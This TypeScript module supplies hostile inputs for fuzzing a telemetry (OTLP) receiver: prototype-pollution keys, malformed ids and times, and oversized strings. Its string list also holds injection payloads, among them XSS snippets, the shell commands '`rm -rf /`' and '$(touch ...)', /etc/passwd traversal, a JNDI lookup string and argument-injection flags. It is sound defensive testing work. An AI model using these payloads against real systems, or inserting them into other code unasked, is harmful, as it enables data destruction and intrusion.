/**
 * Hostile telemetry for the receiver fuzzer: strings and values a malicious or broken sender may
 * put anywhere an OTLP export has a string, a number, an id or a time. Finite on purpose, so a long
 * run creates a bounded number of distinct store keys (the canary checks rely on it).
 */
import type { SeededRandom } from './seededRandom';

/** Names that collide with Object.prototype when used as plain-object keys. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'isPrototypeOf'];

const MIB = 1024 * 1024;
// Built once: a fuzz run sends them many times.
const HUGE = 'x'.repeat(MIB);
const LARGE = 'L'.repeat(64 * 1024);
const WIDE = '\u{1F525}'.repeat(20_000);

/** Strings that are not huge (sent often). */
export const HOSTILE_STRINGS = [
  ...PROTOTYPE_KEYS,
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u001b[31mred\u001b[0m\u001b]8;;http://evil/\u0007link\u001b]8;;\u0007',
  '\r\n\r\nHTTP/1.1 200 OK',
  '\u2028\u2029',
  '\ud800',
  '\udfff\ud800',
  '\uffff\ufffe',
  '\u202e-RTL-override',
  'ünïcødé ✓',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '`rm -rf /`',
  '$(touch /tmp/runtime-lens-pwned)',
  '../../../../../../etc/passwd',
  '/etc/passwd',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  'file:///etc/passwd',
  '\\\\server\\share\\x.js',
  '%2e%2e%2f%2e%2e%2f',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '%s%s%s%n',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '-0',
  '9007199254740993',
  '18446744073709551616',
  '-1',
  'null',
  'undefined',
  'true',
  '0x1F',
  '--output=/tmp/runtime-lens-pwned',
  '-c',
  '--help',
  'HEAD~100000',
  'HEAD^{tree}',
  '@{-1}',
  'refs/heads/../../x',
];

/** Stack traces whose frames name prototype members (function names, files). */
const HOSTILE_STACKS = ['constructor', '__proto__', 'toString'].map(
  (k) => `${k}: ${k}\n    at ${k} (/srv/app/src/${k}.js:1:1)\n    at orders_create (/srv/app/src/orders.js:2:5)\n    at Object.${k} [as ${k}] (node:internal/${k}:1:1)`,
);
HOSTILE_STRINGS.push(...HOSTILE_STACKS, 'Traceback (most recent call last):\n  File "__proto__", line 1, in constructor\nconstructor: x');

/** Strings whose size is the attack. */
export const HUGE_STRINGS = [LARGE, WIDE, HUGE];

/** A hostile string; huge ones rarely (each costs a MiB on the wire). */
export function hostileString(rnd: SeededRandom): string {
  if (rnd.chance(0.004)) return rnd.pick(HUGE_STRINGS);
  return rnd.pick(HOSTILE_STRINGS);
}

/** Attribute keys the receiver reads (and prototype members), for attributes with hostile values. */
export const ATTRIBUTE_KEYS = [
  ...PROTOTYPE_KEYS,
  '',
  'service.name',
  'deployment.environment.name',
  'deployment.environment',
  'vcs.ref.head.revision',
  'vcs.repository.ref.revision',
  'service.version',
  'telemetry.sdk.language',
  'code.function.name',
  'code.function',
  'code.namespace',
  'code.file.path',
  'code.filepath',
  'code.line.number',
  'code.lineno',
  'code.stacktrace',
  'exception.type',
  'exception.message',
  'exception.stacktrace',
  'http.route',
  'http.request.method',
  'http.method',
  'url.full',
  'http.url',
  'url.path',
  'server.address',
  'server.port',
  'net.peer.name',
  'peer.service',
  'http.response.status_code',
];

/** OTLP/JSON time values (decimal strings of uint64 nanoseconds, or numbers) that are out of range or malformed. */
export const HOSTILE_TIMES: readonly unknown[] = [
  '-1',
  '0',
  '1',
  '18446744073709551615',
  '18446744073709551616',
  '99999999999999999999999',
  '9223372036854775808',
  1e30,
  -5,
  1.5,
  'NaN',
  '1.5e18',
  '0x10',
  ' 123',
  '',
  '１２３',
  null,
  true,
  {},
  [],
  1e308,
];

/** OTLP/JSON ids: hex of the wrong length, not hex, all zero, upper case, base64. */
export function hostileId(rnd: SeededRandom, bytes: number): unknown {
  return rnd.pick<() => unknown>([
    () => '',
    () => rnd.hex(bytes - 1),
    () => rnd.hex(bytes + 1),
    () => rnd.hex(bytes).slice(1),
    () => rnd.hex(bytes).toUpperCase(),
    () => '0'.repeat(bytes * 2),
    () => 'g'.repeat(bytes * 2),
    () => Buffer.from(rnd.bytes(bytes)).toString('base64'),
    () => `${rnd.hex(bytes).slice(2)}é`,
    () => 12345,
    () => null,
    () => hostileString(rnd),
  ])();
}
